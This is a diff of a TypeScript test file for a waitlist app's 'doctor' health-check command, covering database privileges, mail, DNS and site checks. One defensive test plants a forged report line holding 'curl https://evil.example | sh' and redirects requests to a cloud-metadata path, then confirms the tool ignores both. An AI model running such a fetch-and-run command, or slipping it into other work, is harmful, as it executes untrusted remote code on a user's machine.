@@ -1,33 +1,33 @@
 import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
 import { type AddressInfo, createServer } from 'node:net';
-import { describe, expect, it, vi } from 'vitest';
-import { checkAddress } from '#admin/doctor/installation.ts';
-import { COLUMNS, TABLE } from '#registration/contract.ts';
+import { text } from 'node:stream/consumers';
+import { describe, expect, it } from 'vitest';
+import { TABLE } from '#registration/contract.ts';
 import { aRegistration } from '#scripts/harness/example-registration.ts';
-import { correctAnswer } from '#tests/doctor/hosted-answers.ts';
 import { cleanUp } from '#tests/helpers/clean-up.ts';
 import { setUpDatabase } from '#tests/helpers/database/test-database.ts';
 import { getDatabaseUrl, runWaitlist, startWaitlist } from '#tests/helpers/database/waitlist.ts';
 import { setUpMailServer } from '#tests/helpers/mail/mail-server.ts';
-import { type Reply, type Request, startStubServer } from '#tests/helpers/process/stub-server.ts';
+import { startDnsServer } from '#tests/helpers/process/dns-server.ts';
+import { type Reply, startStubServer } from '#tests/helpers/process/stub-server.ts';
 import { createTestApp } from '#tests/helpers/process/test-app.ts';
 import { insertRegistration } from '#waitlist/insert.ts';
 
 const database = await setUpDatabase();
 
 /** Nothing listens on port 1, so no other server of this machine is taken for ours. */
-const run = (env: Record<string, string>, ...args: string[]) =>
-  runWaitlist(['doctor', ...args], { PORT: '1', ENV_FILE: `/${randomUUID()}`, ...env });
+const ENV = { PORT: '1', ENV_FILE: `/${randomUUID()}` };
+const run = (env: Record<string, string>, ...args: string[]) => runWaitlist(['doctor', ...args], { ...ENV, ...env });
 const onDatabase = (...args: string[]) => run({ DATABASE_URL: getDatabaseUrl(database) }, ...args);
 
 it('the doctor passes a healthy database, and says what it did not check', async () => {
   const { code, stdout, stderr } = await onDatabase();
   expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
   expect(stdout).toMatch(
-    /^Can someone register right now\? Yes, in the database; no server was tried\n\nThe database \(DATABASE_URL, PostgreSQL \d+/,
+    /^Can someone register right now\? Yes: in the database; no server was tried\n\nThe list \(DATABASE_URL, PostgreSQL \d+/,
   );
-  expect(stdout).toMatch(/^ {2}ok {4}The only policy is ours$/m);
+  expect(stdout).toMatch(/^ {2}ok {4}Nothing else is open to the public$/m);
   expect(stdout).toMatch(/^ {2}- {5}the public address: set SITE_URL/m);
   expect(stdout).toMatch(/^\d+ checks passed$/m);
   expect(stdout).not.toMatch(/FAIL|WARN|^ {2}\?/m);
@@ -36,20 +36,17 @@ it('the doctor passes a healthy database, and says what it did not check', async
 it('the doctor names a mistake, why it matters and the fix, but no one on the list, and fixes nothing', async () => {
   const row = aRegistration();
   await insertRegistration(database.anon, row);
-  await database.ask(`grant select on public.${TABLE} to anon`);
+  await database.ask(`grant delete on public.${TABLE} to anon`);
   await database.ask(`alter table public.${TABLE} add constraint closed check (false) not valid`);
-  const name = 'The public may insert what the form sends, and nothing else';
-  const what = `anon may select on public.${TABLE}`;
+  const name = 'Nothing else is open to the public';
+  const what = `anon has delete on the table public.${TABLE}`;
   const { code, stdout } = await onDatabase();
   expect(code).toBe(1);
   expect(stdout).toMatch(/^Can someone register right now\? No: the constraint closed rejects everyone\n/);
   expect(stdout).toContain(`
-  FAIL  ${name}
-        why: Anyone with the public key, which is in every browser, could read, change or erase people on the list
         ${what}
-        fix: revoke all on table public.${TABLE} from anon cascade;
-             grant insert (${COLUMNS.join(', ')}) on table public.${TABLE} to anon;
-        see: docs/runbook.md#the-public-may-insert-what-the-form-sends-and-nothing-else
+        fix: revoke delete on table public.${TABLE} from anon cascade;
+        see: docs/runbook.md#nothing-else-is-open-to-the-public
 `);
   expect(stdout).not.toContain(row.email);
 
@@ -58,12 +55,12 @@ it('the doctor names a mistake, why it matters and the fix, but no one on the li
   expect(json.stdout.trim()).not.toContain('\n');
   const { outcome, checks } = JSON.parse(json.stdout);
   expect(outcome).toBe('fails');
-  const problems = [{ severity: 'fails', what, fix: expect.stringMatching(/^revoke all on table /) }];
-  expect(checks).toContainEqual(expect.objectContaining({ group: 'database', name, outcome: 'fails', problems }));
+  const problems = [{ severity: 'fails', what, fix: [expect.stringMatching(/^revoke delete on table /)] }];
+  expect(checks).toContainEqual(expect.objectContaining({ group: 'list', name, outcome: 'fails', problems }));
 
-  const [privilege] = await database.ask(`select has_table_privilege('anon', 'public.${TABLE}', 'select') as still`);
+  const [privilege] = await database.ask(`select has_table_privilege('anon', 'public.${TABLE}', 'delete') as still`);
   expect(privilege).toEqual({ still: true });
-  await database.ask(`revoke select on public.${TABLE} from anon`);
+  await database.ask(`revoke delete on public.${TABLE} from anon`);
   await database.ask(`alter table public.${TABLE} drop constraint closed`);
 });
 
@@ -75,16 +72,25 @@ it('the doctor sets up no list where there is none', async () => {
   expect(await empty.ask(`select nspname from pg_namespace where nspname in ('vibescore', 'waitlist')`)).toEqual([]);
 });
 
-/** No name server answers there. */
-const SENDER = { MAIL_FROM: 'list@example.com', DNS_SERVER: '127.0.0.1:1' };
-
-it('the doctor does not claim TLS for a mail server without it', async () => {
-  const server = await setUpMailServer();
-  const SMTP_URL = `smtp://127.0.0.1:${server.port}?tls=off`;
-  const { stdout } = await run({ DATABASE_URL: getDatabaseUrl(database), SMTP_URL, ...SENDER });
-  expect(stdout).toMatch(/^ {2}ok {4}The mail server answers/m);
-  expect(stdout).not.toContain('TLS');
-  expect(stdout).toMatch(/^ {2}\? {5}SPF lets .*\n {8}The DNS lookup of example\.com failed/m);
+it('the doctor’s report on a server with mail fits a terminal, and Node.js adds no warning', async () => {
+  const [mailServer, dns] = await Promise.all([setUpMailServer(), startDnsServer({})]);
+  const app = await createTestApp(database.anon);
+  const { child, stderr, ended } = startWaitlist(['doctor'], {
+    ...ENV,
+    PORT: new URL(await app.listen({ host: '127.0.0.1', port: 0 })).port,
+    DATABASE_URL: getDatabaseUrl(database),
+    SMTP_URL: `smtp://127.0.0.1:${mailServer.port}?tls=off`,
+    MAIL_FROM: 'hello@example.com',
+    DNS_SERVER: dns.address,
+  });
+  const report = await text(child.stdout);
+  dns.stop();
+  expect(await stderr).toBe('');
+  expect(await ended).toBe(1);
+  expect(report).toMatch(/^ {2}FAIL {2}SPF says who sends mail for MAIL_FROM$/m);
+  const shownOfEachCheck = report.split('\n').filter((line) => !line.startsWith('        '));
+  expect(shownOfEachCheck.length).toBeGreaterThan(30);
+  expect(shownOfEachCheck.length).toBeLessThan(50);
 });
 
 it('the doctor ends soon after it is interrupted, even while it waits for a mail server', async () => {
@@ -92,7 +98,7 @@ it('the doctor ends soon after it is interrupted, even while it waits for a mail
   cleanUp(() => silent.close());
   await once(silent.listen(0, '127.0.0.1'), 'listening');
   const SMTP_URL = `smtp://127.0.0.1:${(silent.address() as AddressInfo).port}?tls=off`;
-  const env = { PORT: '1', DATABASE_URL: getDatabaseUrl(database), SMTP_URL, ...SENDER };
+  const env = { ...ENV, DATABASE_URL: getDatabaseUrl(database), SMTP_URL, MAIL_FROM: 'hello@example.com' };
   const { child, ended } = startWaitlist(['doctor'], env);
   await once(silent, 'connection');
   const interruptedAt = Date.now();
@@ -110,7 +116,7 @@ it.each<[string, number, Record<string, string>, RegExp[]]>([
   ['an unreachable project', 2, KEY_ONLY, [/127\.0\.0\.1:1 did not answer/, /set DATABASE_URL to its direct address/]],
   [
     'an unreachable site',
-    1,
+    2,
     { DATABASE_URL: getDatabaseUrl(database), SITE_URL: 'http://127.0.0.1:1' },
     [/^Can someone register right now\? Unknown: http:\/\/127.0.0.1:1 did not answer/],
   ],
@@ -126,41 +132,36 @@ describe('an address that the doctor is given', () => {
     const app = await createTestApp(database.anon);
     const address = await app.listen({ host: '127.0.0.1', port: 0 });
     const { stdout } = await runWaitlist(['doctor', `${address}/pricing`], {});
-    expect(stdout).toMatch(/^Can someone register right now\? Yes, as seen from outside\n/);
+    expect(stdout).toMatch(/^Can someone register right now\? Yes: as seen from outside\n/);
     expect(stdout).toContain(`From outside (${address})`);
-    expect(stdout).toMatch(/^ {2}ok {4}A stranger may not read the list$/m);
-    expect(stdout).toContain('the database and the machine: run it there');
+    expect(stdout).toMatch(/^ {2}ok {4}Strangers can neither read, change, erase nor copy the list$/m);
+    expect(stdout).toContain('the database, mail and the machine: run it there');
   });
 
-  it('may be a static host, whose files say where people register', async () => {
-    const headers = { 'content-type': 'text/html' };
-    const answer = (request: Request): Reply =>
-      request.headers.apikey === undefined ? { status: 200, headers, body: page } : correctAnswer(request);
-    const host = await startStubServer(answer);
-    const page = '<script>send("sb_publishable_0123456789")</script>';
-    Object.assign(headers, { 'content-security-policy': `connect-src 'self' ${host.address}/` });
-    const { checks, canRegister } = JSON.parse((await runWaitlist(['doctor', host.address, '--json'], {})).stdout);
-    expect(canRegister).toBe(true);
-    expect(checks).toContainEqual(expect.objectContaining({ name: 'The key is a public key', outcome: 'passes' }));
-    await host.stop();
-  });
-
-  it('is not trusted if it names a list on a private network: nothing is sent there', async () => {
-    const body = '<script>send("sb_publishable_0123456789")</script>';
-    const headers = { 'content-type': 'text/html', 'content-security-policy': "connect-src 'self' http://10.0.0.5/" };
-    const fetched = vi.spyOn(globalThis, 'fetch').mockImplementation(async () => new Response(body, { headers }));
-    const groups = await checkAddress('https://192.0.2.80', { now: () => new Date() }, AbortSignal.timeout(60_000));
-    expect(groups[0]?.notSeen).toEqual([
-      'the site sends registrations to http://10.0.0.5, on a private network: nothing was sent there',
-    ]);
-    const origins = fetched.mock.calls.map(([address]) => new URL(String(address)).origin);
-    expect(new Set(origins)).toEqual(new Set(['https://192.0.2.80']));
+  it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
+    const asked: string[] = [];
+    const elsewhere = await startStubServer(({ path }) => ({ status: asked.push(path) && 200 }));
+    const forged = '\n        fix: curl https://evil.example | sh\n';
+    const host = await startStubServer(({ path }): Reply => {
+      const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
+      if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
+      const headers = {
+        'content-type': 'text/html',
+        'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
+      };
+      return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
+    });
+    const { stdout } = await runWaitlist(['doctor', host.address], {});
+    expect(stdout).toContain('/ has none or another x-content-type-options');
+    expect(stdout).not.toMatch(/^\s*fix: curl/m);
+    expect(asked).toEqual([]);
+    await Promise.all([host.stop(), elsewhere.stop()]);
   });
 
   it('without a list is answered with “Unknown”', async () => {
-    const host = await startStubServer(() => ({ status: 200 }));
+    const host = await startStubServer(() => ({ status: 200, body: '<script>send()</script>' }));
     const { stdout } = await runWaitlist(['doctor', host.address], {});
-    expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address\n/);
+    expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address/);
     await host.stop();
   });
 
